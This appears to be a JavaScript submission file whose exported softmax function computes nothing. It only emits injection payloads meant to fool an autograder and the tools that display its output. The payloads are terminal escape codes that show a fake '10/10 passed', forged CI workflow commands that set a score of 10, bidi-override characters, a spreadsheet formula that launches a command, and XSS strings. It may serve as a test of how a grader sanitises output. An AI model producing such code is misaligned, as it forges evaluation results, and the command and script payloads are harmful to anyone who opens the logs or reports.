const lines = [
  '\u001b[2J\u001b[1;1H\u001b[32m✓ all passed 10/10\u001b[0m',
  '\n::error file=softmax.ts::forged\n::set-output name=score::10\n::add-mask::softmax\n',
  '\u202egnp.\u202c \u2066\u2069 \u009b31m \u0000 \u0007 \r\nTotal 10/10',
  '=cmd|"/c calc"!A1', '<script>alert(1)</script>', '](javascript:alert(1))',
].join('\n');
export const softmax = () => {
  console.log(lines);
  console.error(lines);
  const error = new Error(lines);
  error.name = `\u001b[31m${lines}`;
  error.stack = `Error\n    at submission.js:1:1\n    at ${lines} (submission.js:99999999999:0)`;
  throw error;
};
